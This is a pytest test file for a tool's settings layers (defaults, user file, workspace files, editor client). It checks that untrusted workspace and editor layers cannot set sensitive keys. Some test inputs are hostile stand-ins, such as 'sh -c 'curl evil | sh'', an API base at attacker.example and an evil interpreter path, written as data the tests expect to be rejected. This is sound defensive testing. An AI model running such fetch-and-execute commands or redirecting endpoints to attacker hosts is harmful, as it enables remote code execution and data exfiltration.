"""Settings layers: defaults, user file, workspace files, client; validation per key."""

from __future__ import annotations

from pathlib import Path

import pytest

from tactful.analyzers.userdirs import config_dir
from tactful.server.settings import Layer, load, resolve


def test_defaults() -> None:
    resolved = resolve([])
    assert resolved.settings.completion.max_lines == 8
    assert resolved.settings.validation.timeout_s == 60.0
    assert resolved.sources["completion.max_lines"] == "default"
    assert resolved.problems == ()


@pytest.mark.parametrize(
    ("values", "key", "expected"),
    [
        ({"completion": {"maxLines": 3}}, "completion.max_lines", 3),
        ({"completion.maxLines": 4}, "completion.max_lines", 4),
        ({"tactful": {"completion": {"max_lines": 5}}}, "completion.max_lines", 5),
        (
            {"validation": {"command": "tox -e py -- -x"}},
            "validation.command",
            ["tox", "-e", "py", "--", "-x"],
        ),
        ({"quality": {"select": ["E", "F"]}}, "quality.select", ["E", "F"]),
        ({"filter": {"threshold": 0.3}}, "filter.threshold", 0.3),
    ],
)
def test_client_values(values: dict, key: str, expected: object) -> None:
    resolved = resolve([Layer("client", values)])
    section, leaf = key.split(".")
    assert getattr(getattr(resolved.settings, section), leaf) == expected
    assert resolved.sources[key] == "client"


@pytest.mark.parametrize(
    ("values", "named"),
    [
        ({"completion": {"maxLines": "many"}}, "completion.maxLines"),
        ({"completion": {"engine": "gpt"}}, "completion.engine"),
        ({"filter": {"explore": 3}}, "filter.explore"),
        ({"nope": {"x": 1}}, "nope.x"),
    ],
)
def test_bad_values_name_the_key_and_keep_the_rest(values: dict, named: str) -> None:
    resolved = resolve([Layer("client", {**values, "review": {"base": "main"}})])
    assert any(named in p for p in resolved.problems), resolved.problems
    assert resolved.settings.review.base == "main"
    assert resolved.settings.completion.max_lines == 8


def test_workspace_files_cannot_choose_what_runs(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[tool.tactful]\nllm = { model = "openai/x", api_base = "http://evil" }\n'
        '[tool.tactful.validation]\ncommand = "curl evil"\ntimeout_s = 5\nsandbox = "none"\n'
        'enabled = false\npython = "./evil/bin/python"\n'
        "[tool.tactful.workspace]\ntrusted = true\n"
        '[tool.tactful.feedback]\nstore = "store.sqlite3"\nstore_code = true\n'
    )
    (tmp_path / ".tactful.toml").write_text("[completion]\nmax_lines = 2\n")
    resolved = load(tmp_path)
    settings = resolved.settings
    assert settings.llm.model is None and settings.llm.api_base is None
    assert settings.validation.command is None
    assert settings.validation.python is None
    assert settings.workspace.trusted is None
    assert settings.validation.timeout_s == 60.0 and settings.validation.sandbox == "auto"
    assert settings.feedback.store is None and settings.feedback.store_code is False
    assert settings.validation.enabled is False  # a workspace may turn validation off
    assert settings.completion.max_lines == 2
    assert resolved.sources["completion.max_lines"].endswith(".tactful.toml")
    assert sum("is ignored" in p for p in resolved.problems) == 9


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("workspace.trusted", True),
        ("llm.model", "openai/theirs"),
        ("llm.apiBase", "http://attacker.example/v1"),
        ("llm.timeoutS", 600),
        ("validation.command", "sh -c 'curl evil | sh'"),
        ("validation.python", "/tmp/evil/python"),
        ("validation.sandbox", "none"),
        ("validation.timeoutS", 100000),
        ("feedback.store", "/tmp/elsewhere.sqlite3"),
        ("feedback.storeCode", True),
        ("feedback.team", "postgresql://attacker.example/db"),
    ],
)
def test_restricted_layers_cannot_set_user_only_keys(key: str, value: object) -> None:
    section, leaf = key.split(".")
    user = Layer("editor initializationOptions", {})
    resolved = resolve([user, Layer("editor configuration", {section: {leaf: value}}, True)])
    assert resolved.sources.get(_snake_key(key), "default") == "default"
    (problem,) = resolved.problems
    assert repr(key) in problem or "unknown setting" in problem


def test_restricted_layers_keep_their_other_keys_and_may_repeat_the_user_value() -> None:
    user = Layer("user file", {"llm": {"model": "openai/mine"}})
    editor = Layer(
        "editor configuration",
        {"llm": {"model": "openai/mine"}, "review": {"base": "main"}},
        restricted=True,
    )
    resolved = resolve([user, editor])
    assert resolved.settings.llm.model == "openai/mine"
    assert resolved.sources["llm.model"] == "user file"
    assert resolved.settings.review.base == "main"
    assert resolved.problems == ()


def _snake_key(key: str) -> str:
    return ".".join(
        "".join("_" + c.lower() if c.isupper() else c for c in part) for part in key.split(".")
    )


def test_layers_in_order_user_file_then_workspace_then_client(tmp_path: Path) -> None:
    user = config_dir() / "config.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text('[llm]\nmodel = "openai/mine"\n[completion]\nmax_lines = 6\nengine = "local"\n')
    (tmp_path / ".tactful.toml").write_text("[completion]\nmax_lines = 3\n")
    resolved = load(tmp_path, [Layer("editor", {"completion": {"engine": "llm"}})])
    assert resolved.settings.llm.model == "openai/mine"
    assert resolved.settings.completion.max_lines == 3
    assert resolved.settings.completion.engine == "llm"
    assert resolved.sources["llm.model"].startswith("user file")


def test_unreadable_toml_is_reported_not_fatal(tmp_path: Path) -> None:
    (tmp_path / ".tactful.toml").write_text("[completion\nmax_lines = ")
    resolved = load(tmp_path)
    assert resolved.settings.completion.max_lines == 8
    assert any(".tactful.toml" in p for p in resolved.problems)


@pytest.mark.parametrize(
    "values",
    [
        {"tactful": []},
        {"review": []},
        {"tactful": {"completion": [], "review": {"base": "main"}}},
    ],
    ids=["empty-tactful", "empty-section", "empty-section-beside-a-value"],
)
def test_an_empty_list_is_an_empty_table(values: dict) -> None:
    # Neovim encodes an empty Lua table as []: `setup({})` must not warn on every start.
    resolved = resolve([Layer("editor configuration", values)])
    assert resolved.problems == ()
    assert resolved.settings.completion.max_lines == 8


def test_an_empty_list_stays_a_list_where_the_setting_is_a_list() -> None:
    resolved = resolve([Layer("client", {"quality": {"select": []}})])
    assert resolved.settings.quality.select == []
    assert resolved.problems == ()
